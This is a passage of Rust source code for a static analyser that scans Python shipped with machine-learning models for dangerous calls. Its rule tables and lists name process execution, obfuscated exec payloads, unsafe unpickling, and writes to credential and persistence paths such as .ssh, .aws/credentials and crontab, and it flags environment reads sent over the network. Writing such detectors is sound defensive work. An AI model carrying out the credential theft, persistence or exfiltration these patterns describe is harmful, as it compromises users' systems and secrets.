//! Static analysis of Python shipped with models: Hugging Face remote-code modelling files,
//! `TorchServe` handlers, `MLflow` loader modules and code paths.
//!
//! The source is parsed with ruff's error-recovering parser (never imported or run). Calls are
//! resolved to dotted names through import aliases by the reusable [`Resolver`], then matched
//! against the table [`CALL_RULES`].
//!
//! ruff's parser has no recursion limit, so a cheap lexical pre-scan estimates the nesting depth
//! first and refuses sources beyond [`Limits::max_estimated_nesting`]; parsing, walking and
//! dropping the tree run inline when the calling thread has [`Limits::stack_bytes`] of stack
//! left, else on a worker thread with such a stack (one long-lived worker per calling thread).

use std::collections::{HashMap, HashSet};

use mlsecops_core::{FormatAnalysis, Observation};
use ruff_python_ast::visitor::{self, Visitor};
use ruff_python_ast::{Expr, ModModule, Stmt};
use ruff_python_parser::parse_module;
use ruff_text_size::Ranged;

/// Format label for Python sources.
pub const FORMAT: &str = "python";

/// Resource limits of the Python analyser.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Largest source analysed (bytes).
    pub max_source_bytes: usize,
    /// Largest nesting depth estimated by the lexical pre-scan before parsing.
    pub max_estimated_nesting: u32,
    /// Deepest AST nesting the walker descends into.
    pub max_ast_depth: u32,
    /// Most AST nodes visited.
    pub max_nodes: usize,
    /// Most observations reported per file.
    pub max_observations: usize,
    /// Most import aliases remembered.
    pub max_aliases: usize,
    /// Stack of the parsing thread.
    pub stack_bytes: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_source_bytes: 4 * 1024 * 1024,
            max_estimated_nesting: 200,
            max_ast_depth: 400,
            max_nodes: 2_000_000,
            max_observations: 256,
            max_aliases: 100_000,
            stack_bytes: 64 * 1024 * 1024,
        }
    }
}

/// True for Python source names (`.py`, `.pyw`, `.pyi`).
pub fn is_python_name(name: &str) -> bool {
    std::path::Path::new(name).extension().is_some_and(|e| {
        ["py", "pyw", "pyi"]
            .iter()
            .any(|x| e.eq_ignore_ascii_case(x))
    })
}

/// Analyses one Python source with default limits.
pub fn analyze(source: &[u8]) -> FormatAnalysis {
    analyze_with(source, &Limits::default())
}

/// Analyses one Python source with explicit limits.
pub fn analyze_with(source: &[u8], limits: &Limits) -> FormatAnalysis {
    let ids = DriverIds {
        format: FORMAT,
        syntax_error: Some("python-syntax-error"),
        limit: "python-limit-exceeded",
    };
    run_parsed(
        source,
        limits,
        ids,
        |module, text, lines, limits, analysis| {
            check_module(module, text, lines, limits, analysis);
        },
    )
}

/// Rule ids and format label the shared parse driver ([`run_parsed`]) reports with.
#[derive(Debug, Clone, Copy)]
pub(crate) struct DriverIds {
    /// Format label of the returned analysis.
    pub(crate) format: &'static str,
    /// Rule for a (recovered) syntax error; `None`: recover silently.
    pub(crate) syntax_error: Option<&'static str>,
    /// Rule for sources refused or truncated by a limit.
    pub(crate) limit: &'static str,
}

/// Shared driver of every Python analysis in this crate: size cap, UTF-8 (lossy), nesting
/// pre-scan, then parsing (with error recovery) and `check` on a thread with a
/// [`Limits::stack_bytes`] stack, so the tree is built, walked and dropped there.
pub(crate) fn run_parsed<F>(
    source: &[u8],
    limits: &Limits,
    ids: DriverIds,
    check: F,
) -> FormatAnalysis
where
    F: FnOnce(&ModModule, &str, &LineIndex, &Limits, &mut FormatAnalysis) + Send + 'static,
{
    let mut analysis = FormatAnalysis::new(ids.format);
    if source.len() > limits.max_source_bytes {
        analysis.fail(
            Observation::new(
                ids.limit,
                format!(
                    "Python source of {} bytes exceeds the {}-byte limit; not analysed",
                    source.len(),
                    limits.max_source_bytes
                ),
            )
            .with_evidence("size", source.len().to_string()),
        );
        return analysis;
    }
    let text = match std::str::from_utf8(source) {
        Ok(t) => t.to_owned(),
        Err(e) => {
            if let Some(rule) = ids.syntax_error {
                analysis.push(
                    Observation::new(
                        rule,
                        "Python source is not valid UTF-8; analysed with replacement characters",
                    )
                    .at(e.valid_up_to() as u64)
                    .with_evidence("error", "invalid UTF-8"),
                );
            }
            String::from_utf8_lossy(source).into_owned()
        }
    };
    let nesting = estimate_nesting(text.as_bytes());
    if nesting > limits.max_estimated_nesting {
        analysis.fail(
            Observation::new(
                ids.limit,
                format!(
                    "Python source nests about {nesting} levels deep (limit {}); not parsed",
                    limits.max_estimated_nesting
                ),
            )
            .with_evidence("estimated_nesting", nesting.to_string()),
        );
        return analysis;
    }
    let limits = *limits;
    // On a thread that already has the stack the parser may need (the scanner's worker
    // threads), run inline: handing each small source (a notebook cell) to another thread
    // costs more than parsing it.
    let inline = stacker::remaining_stack().is_some_and(|left| left >= limits.stack_bytes);
    let outcome = if inline {
        std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            parse_and_check(&text, &limits, ids, check)
        }))
        .map_err(|_| big_stack::Failure::Panicked)
    } else {
        big_stack::run(limits.stack_bytes, move || {
            parse_and_check(&text, &limits, ids, check)
        })
    };
    match outcome {
        Ok(inner) => analysis.absorb(inner),
        Err(big_stack::Failure::Panicked) => analysis.fail(Observation::new(
            ids.limit,
            "the Python parser failed on this source; not analysed",
        )),
        Err(big_stack::Failure::Spawn(e)) => analysis.fail(Observation::new(
            ids.limit,
            format!("could not start the Python analysis thread: {e}"),
        )),
    }
    analysis
}

/// One long-lived worker thread with a large stack per calling thread, so that parsing many
/// small sources (notebook cells) does not pay for a thread spawn each time. A job that
/// panics takes its worker down; the next job starts a fresh one.
mod big_stack {
    use std::cell::RefCell;
    use std::sync::mpsc;

    type Job = Box<dyn FnOnce() + Send>;

    /// Why a job produced no result.
    pub(super) enum Failure {
        /// The job panicked (the worker is replaced).
        Panicked,
        /// No worker thread could be started.
        Spawn(std::io::Error),
    }

    struct Worker {
        stack: usize,
        jobs: mpsc::Sender<Job>,
    }

    thread_local! {
        static WORKER: RefCell<Option<Worker>> = const { RefCell::new(None) };
    }

    fn start(stack: usize) -> std::io::Result<Worker> {
        let (jobs, queue) = mpsc::channel::<Job>();
        std::thread::Builder::new()
            .name("mlsecops-python".into())
            .stack_size(stack)
            .spawn(move || {
                while let Ok(job) = queue.recv() {
                    job();
                }
            })?;
        Ok(Worker { stack, jobs })
    }

    /// Runs `job` on this thread's worker (a thread with `stack` bytes of stack).
    pub(super) fn run<T, F>(stack: usize, job: F) -> Result<T, Failure>
    where
        T: Send + 'static,
        F: FnOnce() -> T + Send + 'static,
    {
        let (done, result) = mpsc::channel::<T>();
        let boxed: Job = Box::new(move || {
            let _ = done.send(job());
        });
        WORKER.with(|cell| {
            let mut slot = cell.borrow_mut();
            let mut pending = Some(boxed);
            // A worker that died outside a job refuses the send: start one fresh worker.
            for _ in 0..2 {
                let Some(job) = pending.take() else { break };
                if slot.as_ref().is_none_or(|w| w.stack != stack) {
                    *slot = Some(start(stack).map_err(Failure::Spawn)?);
                }
                if let Some(worker) = slot.as_ref()
                    && let Err(mpsc::SendError(job)) = worker.jobs.send(job)
                {
                    pending = Some(job);
                    *slot = None;
                }
            }
            let outcome = result.recv().map_err(|_| Failure::Panicked);
            if outcome.is_err() {
                // A panic unwound the worker's loop: start a new one next time.
                *slot = None;
            }
            outcome
        })
    }
}

fn parse_and_check<F>(text: &str, limits: &Limits, ids: DriverIds, check: F) -> FormatAnalysis
where
    F: FnOnce(&ModModule, &str, &LineIndex, &Limits, &mut FormatAnalysis),
{
    let mut analysis = FormatAnalysis::new(ids.format);
    let lines = LineIndex::new(text);
    let parsed = match parse_module(text) {
        Ok(p) => p,
        Err(err) => {
            // `parse_module` returns the first error; re-parse unchecked to keep the
            // recovered tree.
            let start = u32::from(err.location.start()) as usize;
            let (line, column) = lines.line_col(start);
            if let Some(rule) = ids.syntax_error {
                analysis.push(
                    Observation::new(
                        rule,
                        format!("Python syntax error at line {line}: {}", err.error),
                    )
                    .at(start as u64)
                    .with_evidence("line", line.to_string())
                    .with_evidence("column", column.to_string()),
                );
            }
            let recovered = ruff_python_parser::parse_unchecked_source(
                text,
                ruff_python_ast::PySourceType::Python,
            );
            let unusable = recovered.syntax().body.is_empty() && has_code(text)
                || recovered.errors().len() > 1000;
            if unusable {
                analysis.mark_incomplete(format!(
                    "Python source could not be parsed ({} syntax errors, first at line {line})",
                    recovered.errors().len()
                ));
            }
            let module = recovered.into_syntax();
            check(&module, text, &lines, limits, &mut analysis);
            return analysis;
        }
    };
    let module = parsed.into_syntax();
    check(&module, text, &lines, limits, &mut analysis);
    analysis
}

fn has_code(text: &str) -> bool {
    text.lines().any(|l| {
        let t = l.trim();
        !t.is_empty() && !t.starts_with('#')
    })
}

fn check_module(
    module: &ModModule,
    text: &str,
    lines: &LineIndex,
    limits: &Limits,
    analysis: &mut FormatAnalysis,
) {
    let (resolver, truncated) = bind_module(module, limits);
    if let Some(reason) = truncated {
        analysis.fail(Observation::new("python-limit-exceeded", reason));
    }
    let mut checker = Checker {
        resolver: &resolver,
        lines,
        limits,
        depth: 0,
        nodes: 0,
        truncated: None,
        observations: Vec::new(),
        suppressed: 0,
        env_read: None,
        network: Vec::new(),
        decoded_vars: HashSet::new(),
        called: HashSet::new(),
        text,
    };
    checker.visit_body(&module.body);
    if let Some(reason) = checker.truncated.take() {
        analysis.fail(Observation::new("python-limit-exceeded", reason));
    }
    if let (Some((env_name, _)), Some((net_call, net_off))) =
        (checker.env_read.clone(), checker.network.first().cloned())
    {
        let (line, column) = lines.line_col(net_off);
        checker.emit(
            Observation::new(
                "python-env-exfiltration",
                format!("module reads the environment ({env_name}) and calls {net_call}"),
            )
            .at(net_off as u64)
            .with_evidence("call", net_call)
            .with_evidence("env", env_name)
            .with_evidence("line", line.to_string())
            .with_evidence("column", column.to_string()),
        );
    }
    if checker.suppressed > 0 {
        analysis.push(
            Observation::new(
                "python-limit-exceeded",
                format!(
                    "{} further findings suppressed (limit {})",
                    checker.suppressed, limits.max_observations
                ),
            )
            .with_evidence("suppressed", checker.suppressed.to_string()),
        );
    }
    analysis.observations.extend(checker.observations);
}

// ---------------------------------------------------------------------------
// Name resolution
// ---------------------------------------------------------------------------

/// Python builtins that matter to the rules (resolved as `builtins.<name>` when not rebound).
const BUILTINS: &[&str] = &[
    "eval",
    "exec",
    "compile",
    "open",
    "__import__",
    "getattr",
    "setattr",
    "delattr",
    "globals",
    "locals",
    "vars",
    "input",
    "breakpoint",
    "bytes",
    "memoryview",
];

/// Resolves local names to fully qualified dotted names through imports and simple aliases.
///
/// Flow-insensitive and module-wide: an import anywhere (including inside functions) binds
/// its name for the whole module, which is conservative for a security scan.
#[derive(Debug, Clone, Default)]
pub struct Resolver {
    aliases: HashMap<String, String>,
    star_modules: Vec<String>,
    imported: HashSet<String>,
    max_aliases: usize,
}

impl Resolver {
    /// Empty resolver remembering at most `max_aliases` names.
    pub fn new(max_aliases: usize) -> Self {
        Resolver {
            aliases: HashMap::new(),
            star_modules: Vec::new(),
            imported: HashSet::new(),
            max_aliases,
        }
    }

    /// Binds `local` to the qualified name `target`.
    pub fn bind(&mut self, local: &str, target: String) {
        if local == target {
            return;
        }
        if self.aliases.len() < self.max_aliases || self.aliases.contains_key(local) {
            self.aliases.insert(local.to_owned(), target);
        }
    }

    /// Records the names an import statement binds.
    pub fn bind_stmt(&mut self, stmt: &Stmt) {
        match stmt {
            Stmt::Import(import) => {
                for alias in &import.names {
                    let name = alias.name.as_str();
                    self.note_module(name);
                    if let Some(asname) = &alias.asname {
                        self.bind(asname.as_str(), name.to_owned());
                    } else {
                        // `import a.b` binds `a`.
                        let first = name.split('.').next().unwrap_or(name);
                        self.bind(first, first.to_owned());
                    }
                }
            }
            Stmt::ImportFrom(from) => {
                let module = from.module.as_ref().map_or("", |m| m.as_str());
                let prefix = if from.level > 0 {
                    format!("{}{module}", ".".repeat(from.level.min(8) as usize))
                } else {
                    module.to_owned()
                };
                self.note_module(&prefix);
                for alias in &from.names {
                    let name = alias.name.as_str();
                    if name == "*" {
                        if self.star_modules.len() < 64 {
                            self.star_modules.push(prefix.clone());
                        }
                        continue;
                    }
                    let local = alias.asname.as_ref().map_or(name, |a| a.as_str());
                    let target = if prefix.is_empty() {
                        name.to_owned()
                    } else if prefix.ends_with('.') {
                        format!("{prefix}{name}")
                    } else {
                        format!("{prefix}.{name}")
                    };
                    self.bind(local, target);
                }
            }
            Stmt::Assign(assign) => {
                if let Some(target) = self.resolve(&assign.value) {
                    for t in &assign.targets {
                        if let Expr::Name(n) = t
                            && qualified_is_interesting(&target)
                        {
                            self.bind(n.id.as_str(), target.clone());
                        }
                    }
                }
            }
            Stmt::FunctionDef(def) if BUILTINS.contains(&def.name.as_str()) => {
                // A local `def eval(...)` shadows the builtin.
                self.bind(def.name.as_str(), format!("<local>.{}", def.name.as_str()));
            }
            Stmt::ClassDef(def) if BUILTINS.contains(&def.name.as_str()) => {
                self.bind(def.name.as_str(), format!("<local>.{}", def.name.as_str()));
            }
            Stmt::AnnAssign(assign) => {
                if let (Expr::Name(n), Some(value)) = (assign.target.as_ref(), &assign.value)
                    && let Some(target) = self.resolve(value)
                    && qualified_is_interesting(&target)
                {
                    self.bind(n.id.as_str(), target);
                }
            }
            _ => {}
        }
    }

    /// Resolves a local name (builtins become `builtins.<name>`).
    pub fn resolve_name(&self, name: &str) -> String {
        if let Some(target) = self.aliases.get(name) {
            return target.clone();
        }
        if name == "__builtins__" || name == "__builtin__" {
            return "builtins".to_owned();
        }
        if BUILTINS.contains(&name) {
            return format!("builtins.{name}");
        }
        name.to_owned()
    }

    /// True when some import binds `module` or one of its members (`import gradio as gr`,
    /// `from gradio import Blocks`, `from gradio import *`).
    pub fn imports_module(&self, module: &str) -> bool {
        let inside = |t: &str| {
            t == module
                || t.strip_prefix(module)
                    .is_some_and(|rest| rest.starts_with('.'))
        };
        self.imported.iter().any(|m| inside(m)) || self.aliases.values().any(|t| inside(t))
    }

    fn note_module(&mut self, module: &str) {
        if !module.is_empty() && self.imported.len() < self.max_aliases.min(10_000) {
            self.imported.insert(module.to_owned());
        }
    }

    /// Modules imported with `from m import *`.
    pub fn star_modules(&self) -> &[String] {
        &self.star_modules
    }

    /// Resolves an expression naming a callable or module to a dotted name: names, attribute
    /// chains, `__import__('m')`, `importlib.import_module('m')`, `getattr(x, 'a')`,
    /// `x['a']` on modules/`globals()`. `None` when the expression is not a name.
    pub fn resolve(&self, expr: &Expr) -> Option<String> {
        self.resolve_depth(expr, 0)
    }

    fn resolve_depth(&self, expr: &Expr, depth: u32) -> Option<String> {
        if depth > 64 {
            return None;
        }
        match expr {
            Expr::Name(n) => Some(self.resolve_name(n.id.as_str())),
            Expr::Attribute(a) => {
                let base = self.resolve_depth(&a.value, depth + 1)?;
                Some(join_attr(&base, a.attr.as_str()))
            }
            Expr::Call(call) => {
                let func = self.resolve_depth(&call.func, depth + 1)?;
                let first = call.arguments.args.first();
                match func.as_str() {
                    "builtins.__import__" | "importlib.import_module" | "importlib.__import__" => {
                        first.and_then(string_literal)
                    }
                    "builtins.getattr" => {
                        let base = self.resolve_depth(first?, depth + 1)?;
                        let attr = call.arguments.args.get(1).and_then(string_literal)?;
                        Some(join_attr(&base, &attr))
                    }
                    "builtins.globals" | "builtins.locals" | "builtins.vars"
                        if call.arguments.args.is_empty() =>
                    {
                        Some("<globals>".to_owned())
                    }
                    _ => None,
                }
            }
            Expr::Subscript(s) => {
                let key = string_literal(&s.slice)?;
                let base = self.resolve_depth(&s.value, depth + 1)?;
                Some(join_attr(&base, &key))
            }
            _ => None,
        }
    }
}

fn join_attr(base: &str, attr: &str) -> String {
    if base == "<globals>" {
        if attr == "__builtins__" {
            return "builtins".to_owned();
        }
        if BUILTINS.contains(&attr) {
            return format!("builtins.{attr}");
        }
        return attr.to_owned();
    }
    if attr == "__dict__" {
        return base.to_owned();
    }
    if attr == "__builtins__" {
        return "builtins".to_owned();
    }
    format!("{base}.{attr}")
}

fn qualified_is_interesting(target: &str) -> bool {
    target.contains('.') || target.starts_with("builtins")
}

pub(crate) fn string_literal(expr: &Expr) -> Option<String> {
    match expr {
        Expr::StringLiteral(s) => Some(s.value.to_str().to_owned()),
        _ => None,
    }
}

// ---------------------------------------------------------------------------
// Rule table
// ---------------------------------------------------------------------------

/// Extra condition a call must meet before its rule fires.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Condition {
    /// Always report.
    Always,
    /// eval/exec/compile: literal vs computed vs decoded argument.
    DynamicCode,
    /// `torch.load` without `weights_only=True`.
    TorchLoad,
    /// `numpy.load` with `allow_pickle=True`.
    NumpyLoad,
    /// `yaml.load` without a safe loader.
    YamlLoad,
    /// `open`/`write_text`… on a sensitive path for writing.
    SensitiveWrite,
    /// `__import__`/`import_module` with a computed name.
    ComputedImport,
    /// `setattr` on builtins / torch / pickle.
    SetattrTamper,
    /// Environment read (no finding by itself).
    EnvRead,
}

/// One call rule: a dotted-name pattern (`*` suffix = prefix match), the rule id, the condition.
#[derive(Debug, Clone, Copy)]
pub struct CallRule {
    /// Qualified name or prefix ending in `*`.
    pub pattern: &'static str,
    /// Registry rule id.
    pub rule: &'static str,
    /// Extra condition.
    pub condition: Condition,
}

const fn r(pattern: &'static str, rule: &'static str, condition: Condition) -> CallRule {
    CallRule {
        pattern,
        rule,
        condition,
    }
}

const PROC: &str = "python-process-execution";
const DYN: &str = "python-dynamic-code";
const NET: &str = "python-network-access";
const DESER: &str = "python-unsafe-deserialization";
const NATIVE: &str = "python-native-code";
const WRITE: &str = "python-sensitive-file-write";
const TAMPER: &str = "python-runtime-tampering";
const IMPORT: &str = "python-dynamic-import";

/// The call rules, checked in order; the first match wins.
pub static CALL_RULES: &[CallRule] = &[
    // Process execution.
    r("os.system", PROC, Condition::Always),
    r("os.popen", PROC, Condition::Always),
    r("os.exec*", PROC, Condition::Always),
    r("os.spawn*", PROC, Condition::Always),
    r("os.posix_spawn*", PROC, Condition::Always),
    r("os.startfile", PROC, Condition::Always),
    r("posix.system", PROC, Condition::Always),
    r("nt.system", PROC, Condition::Always),
    r("subprocess.*", PROC, Condition::Always),
    r("_posixsubprocess.*", PROC, Condition::Always),
    r("pty.spawn", PROC, Condition::Always),
    r("commands.*", PROC, Condition::Always),
    r("platform.popen", PROC, Condition::Always),
    r("asyncio.create_subprocess_*", PROC, Condition::Always),
    r(
        "multiprocessing.util.spawnv_passfds",
        PROC,
        Condition::Always,
    ),
    // Dynamic code.
    r("builtins.eval", DYN, Condition::DynamicCode),
    r("builtins.exec", DYN, Condition::DynamicCode),
    r("builtins.compile", DYN, Condition::DynamicCode),
    r("runpy.*", DYN, Condition::Always),
    r("code.InteractiveInterpreter*", DYN, Condition::Always),
    r("code.InteractiveConsole*", DYN, Condition::Always),
    r("code.interact", DYN, Condition::Always),
    r("types.FunctionType", DYN, Condition::Always),
    r("types.CodeType", DYN, Condition::Always),
    // Imports by computed name.
    r("builtins.__import__", IMPORT, Condition::ComputedImport),
    r("importlib.import_module", IMPORT, Condition::ComputedImport),
    r("importlib.__import__", IMPORT, Condition::ComputedImport),
    // Network.
    r("socket.*", NET, Condition::Always),
    r("urllib.request.*", NET, Condition::Always),
    r("urllib.urlopen", NET, Condition::Always),
    r("urllib.urlretrieve", NET, Condition::Always),
    r("urllib2.*", NET, Condition::Always),
    r("requests.*", NET, Condition::Always),
    r("httpx.*", NET, Condition::Always),
    r("http.client.*", NET, Condition::Always),
    r("httplib.*", NET, Condition::Always),
    r("aiohttp.*", NET, Condition::Always),
    r("ftplib.*", NET, Condition::Always),
    r("smtplib.*", NET, Condition::Always),
    r("telnetlib.*", NET, Condition::Always),
    r("poplib.*", NET, Condition::Always),
    r("imaplib.*", NET, Condition::Always),
    r("paramiko.*", NET, Condition::Always),
    r("xmlrpc.client.*", NET, Condition::Always),
    r("webbrowser.*", NET, Condition::Always),
    r("ssl.get_server_certificate", NET, Condition::Always),
    r("pycurl.*", NET, Condition::Always),
    // Pickle-family deserialisation.
    r("pickle.load", DESER, Condition::Always),
    r("pickle.loads", DESER, Condition::Always),
    r("pickle.Unpickler", DESER, Condition::Always),
    r("_pickle.*", DESER, Condition::Always),
    r("cPickle.load*", DESER, Condition::Always),
    r("dill.load*", DESER, Condition::Always),
    r("cloudpickle.load*", DESER, Condition::Always),
    r("joblib.load", DESER, Condition::Always),
    r("sklearn.externals.joblib.load", DESER, Condition::Always),
    r("marshal.load*", DESER, Condition::Always),
    r("shelve.open", DESER, Condition::Always),
    r("pandas.read_pickle", DESER, Condition::Always),
    r("torch.load", DESER, Condition::TorchLoad),
    r("torch.serialization.load", DESER, Condition::TorchLoad),
    r("numpy.load", DESER, Condition::NumpyLoad),
    r("yaml.load", DESER, Condition::YamlLoad),
    r("yaml.load_all", DESER, Condition::YamlLoad),
    r("yaml.unsafe_load*", DESER, Condition::Always),
    r("yaml.full_load*", DESER, Condition::Always),
    // Native code.
    r("ctypes.*", NATIVE, Condition::Always),
    r("_ctypes.*", NATIVE, Condition::Always),
    r("cffi.*", NATIVE, Condition::Always),
    // Runtime tampering.
    r("builtins.setattr", TAMPER, Condition::SetattrTamper),
    r("sys.modules.__setitem__", TAMPER, Condition::Always),
    r("sys.modules.update", TAMPER, Condition::Always),
    r("sys.modules.setdefault", TAMPER, Condition::Always),
    // Sensitive writes.
    r("builtins.open", WRITE, Condition::SensitiveWrite),
    r("io.open", WRITE, Condition::SensitiveWrite),
    r("os.open", WRITE, Condition::SensitiveWrite),
    r("shutil.copy*", WRITE, Condition::SensitiveWrite),
    r("shutil.move", WRITE, Condition::SensitiveWrite),
    r("os.rename", WRITE, Condition::SensitiveWrite),
    r("os.replace", WRITE, Condition::SensitiveWrite),
    r("os.symlink", WRITE, Condition::SensitiveWrite),
    // Environment reads (combined with network access).
    r("os.getenv", "", Condition::EnvRead),
    r("os.environ*", "", Condition::EnvRead),
    r("os.getenvb", "", Condition::EnvRead),
];

/// Decoders whose output feeding eval/exec marks an obfuscated payload.
const DECODERS: &[&str] = &[
    "base64.*",
    "binascii.*",
    "zlib.decompress",
    "gzip.decompress",
    "bz2.decompress",
    "lzma.decompress",
    "codecs.decode",
    "codecs.encode",
    "marshal.loads",
    "bytes.fromhex",
    "builtins.bytes.fromhex",
    "zlib.decompressobj",
];

/// Path fragments whose modification is persistence or credential tampering.
const SENSITIVE_PATHS: &[&str] = &[
    ".ssh",
    "authorized_keys",
    "/etc/",
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zprofile",
    "crontab",
    "/cron",
    ".config/autostart",
    "sitecustomize",
    ".pth",
    "/usr/lib/python",
    ".git/hooks",
    ".aws/credentials",
    ".netrc",
];

/// Names whose reassignment or attribute patching is runtime tampering.
const PATCH_TARGETS: &[&str] = &[
    "builtins.*",
    "torch.load",
    "torch.serialization.*",
    "pickle.*",
    "_pickle.*",
    "sys.modules*",
    "os.system",
    "subprocess.*",
];

/// True when `name` matches `pattern` (`*` suffix = prefix match).
pub fn pattern_matches(pattern: &str, name: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(prefix) => {
            if let Some(module) = prefix.strip_suffix('.') {
                name == module || name.starts_with(prefix)
            } else {
                name.starts_with(prefix)
            }
        }
        None => pattern == name,
    }
}

/// First table rule matching a qualified call name.
pub fn lookup(name: &str) -> Option<&'static CallRule> {
    CALL_RULES.iter().find(|r| pattern_matches(r.pattern, name))
}

// ---------------------------------------------------------------------------
// Walkers
// ---------------------------------------------------------------------------

/// Counts one AST node of a walk; false (and the walk marked truncated) once the depth or
/// node cap is reached. Shared by the binding and the checking walk.
pub(crate) fn admit_node(
    depth: u32,
    nodes: &mut usize,
    limits: &Limits,
    truncated: &mut Option<String>,
) -> bool {
    *nodes += 1;
    if depth >= limits.max_ast_depth || *nodes > limits.max_nodes {
        truncated.get_or_insert_with(|| {
            "Python AST exceeds the depth or node limit; not fully analysed".to_owned()
        });
        return false;
    }
    true
}

/// Runs the binding walk over a module: the [`Resolver`] of its imports and aliases, and the
/// truncation reason when the depth or node cap was reached.
pub(crate) fn bind_module(module: &ModModule, limits: &Limits) -> (Resolver, Option<String>) {
    let mut binder = Binder {
        resolver: Resolver::new(limits.max_aliases),
        depth: 0,
        nodes: 0,
        limits,
        truncated: None,
    };
    binder.visit_body(&module.body);
    (binder.resolver, binder.truncated)
}

struct Binder<'l> {
    resolver: Resolver,
    depth: u32,
    nodes: usize,
    limits: &'l Limits,
    truncated: Option<String>,
}

impl<'a> Visitor<'a> for Binder<'_> {
    fn visit_stmt(&mut self, stmt: &'a Stmt) {
        if !admit_node(
            self.depth,
            &mut self.nodes,
            self.limits,
            &mut self.truncated,
        ) {
            return;
        }
        self.resolver.bind_stmt(stmt);
        self.depth += 1;
        visitor::walk_stmt(self, stmt);
        self.depth -= 1;
    }

    fn visit_expr(&mut self, _expr: &'a Expr) {
        // Bindings happen only at statement level; expressions are walked by the checker.
    }
}

struct Checker<'r> {
    resolver: &'r Resolver,
    lines: &'r LineIndex,
    limits: &'r Limits,
    depth: u32,
    nodes: usize,
    truncated: Option<String>,
    observations: Vec<Observation>,
    suppressed: usize,
    env_read: Option<(String, usize)>,
    network: Vec<(String, usize)>,
    decoded_vars: HashSet<String>,
    /// Start offsets of expressions that are the callee of a call.
    called: HashSet<u32>,
    text: &'r str,
}

impl Checker<'_> {
    fn emit(&mut self, obs: Observation) {
        if self.observations.len() >= self.limits.max_observations {
            self.suppressed += 1;
        } else {
            self.observations.push(obs);
        }
    }

    fn report(&mut self, rule: &'static str, message: String, name: &str, offset: usize) {
        let (line, column) = self.lines.line_col(offset);
        self.emit(
            Observation::new(rule, message)
                .at(offset as u64)
                .with_evidence("call", name)
                .with_evidence("line", line.to_string())
                .with_evidence("column", column.to_string()),
        );
    }

    fn qualify(&self, expr: &Expr) -> Option<String> {
        let name = self.resolver.resolve(expr)?;
        if name.contains('.') {
            return Some(name);
        }
        // `from os import *` then `system(...)`.
        for module in self.resolver.star_modules() {
            let candidate = format!("{module}.{name}");
            if lookup(&candidate).is_some_and(|r| !r.rule.is_empty()) {
                return Some(candidate);
            }
        }
        Some(name)
    }

    fn is_decoded(&self, expr: &Expr, depth: u32) -> bool {
        if depth > 32 {
            return false;
        }
        match expr {
            Expr::Call(call) => {
                if let Some(name) = self.qualify(&call.func)
                    && DECODERS.iter().any(|p| pattern_matches(p, &name))
                {
                    return true;
                }
                if let Expr::Attribute(a) = call.func.as_ref()
                    && (matches!(a.attr.as_str(), "decode" | "fromhex" | "decompress")
                        || self.is_decoded(&a.value, depth + 1))
                {
                    return true;
                }
                call.arguments
                    .args
                    .iter()
                    .any(|a| self.is_decoded(a, depth + 1))
            }
            Expr::Name(n) => self.decoded_vars.contains(n.id.as_str()),
            Expr::Attribute(a) => self.is_decoded(&a.value, depth + 1),
            Expr::BinOp(b) => {
                self.is_decoded(&b.left, depth + 1) || self.is_decoded(&b.right, depth + 1)
            }
            _ => false,
        }
    }

    fn check_call(&mut self, call: &ruff_python_ast::ExprCall) {
        let offset = call.range().start().to_usize();
        let Some(name) = self.qualify(&call.func) else {
            return;
        };
        let Some(rule) = lookup(&name) else {
            // Method calls on Path-like receivers that write files.
            if let Expr::Attribute(a) = call.func.as_ref()
                && matches!(
                    a.attr.as_str(),
                    "write_text" | "write_bytes" | "open" | "symlink_to" | "rename" | "replace"
                )
                && self.mentions_sensitive_path(&a.value)
                && (a.attr.as_str() != "open" || opens_for_writing(call))
            {
                self.report(
                    WRITE,
                    format!("writes to a sensitive path via .{}()", a.attr.as_str()),
                    &name,
                    offset,
                );
            }
            return;
        };
        let args = &call.arguments;
        match rule.condition {
            Condition::Always => {
                if rule.rule == NET {
                    self.network.push((name.clone(), offset));
                }
                let what = describe(rule.rule);
                self.report(rule.rule, format!("calls {name} ({what})"), &name, offset);
            }
            Condition::DynamicCode => {
                let first = args.args.first();
                let decoded = args.args.iter().any(|a| self.is_decoded(a, 0));
                if decoded {
                    self.report(
                        "python-obfuscated-exec",
                        format!("calls {name} on decoded data (packed payload)"),
                        &name,
                        offset,
                    );
                } else if first.is_some_and(is_literal) {
                    self.report(
                        "python-literal-eval",
                        format!("calls {name} on a string literal"),
                        &name,
                        offset,
                    );
                } else {
                    self.report(
                        DYN,
                        format!("calls {name} on a computed value"),
                        &name,
                        offset,
                    );
                }
            }
            Condition::TorchLoad => {
                if !keyword_is_true(call, "weights_only") {
                    self.report(
                        DESER,
                        format!(
                            "calls {name} without weights_only=True (unpickles arbitrary objects)"
                        ),
                        &name,
                        offset,
                    );
                }
            }
            Condition::NumpyLoad => {
                if keyword_is_true(call, "allow_pickle") {
                    self.report(
                        DESER,
                        format!("calls {name} with allow_pickle=True"),
                        &name,
                        offset,
                    );
                }
            }
            Condition::YamlLoad => {
                let loader = args
                    .keywords
                    .iter()
                    .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == "Loader"))
                    .map(|k| &k.value)
                    .or_else(|| args.args.get(1));
                let safe = loader
                    .and_then(|l| self.resolver.resolve(l))
                    .is_some_and(|l| {
                        l.ends_with("SafeLoader")
                            || l.ends_with("BaseLoader")
                            || l.ends_with("CSafeLoader")
                    });
                if !safe {
                    self.report(
                        DESER,
                        format!("calls {name} without a safe Loader"),
                        &name,
                        offset,
                    );
                }
            }
            Condition::SensitiveWrite => {
                let sensitive = args.args.iter().any(|a| self.mentions_sensitive_path(a));
                let writing = name.starts_with("shutil")
                    || name.starts_with("os.re")
                    || name == "os.symlink"
                    || name == "os.open"
                    || opens_for_writing(call);
                if sensitive && writing {
                    self.report(
                        WRITE,
                        format!("calls {name} on a sensitive path"),
                        &name,
                        offset,
                    );
                }
            }
            Condition::ComputedImport => {
                if !args.args.first().is_some_and(is_literal) {
                    self.report(
                        IMPORT,
                        format!("calls {name} with a computed module name"),
                        &name,
                        offset,
                    );
                }
            }
            Condition::SetattrTamper => {
                let target = args.args.first().and_then(|a| self.qualify(a));
                if let Some(target) = target {
                    let attr = args
                        .args
                        .get(1)
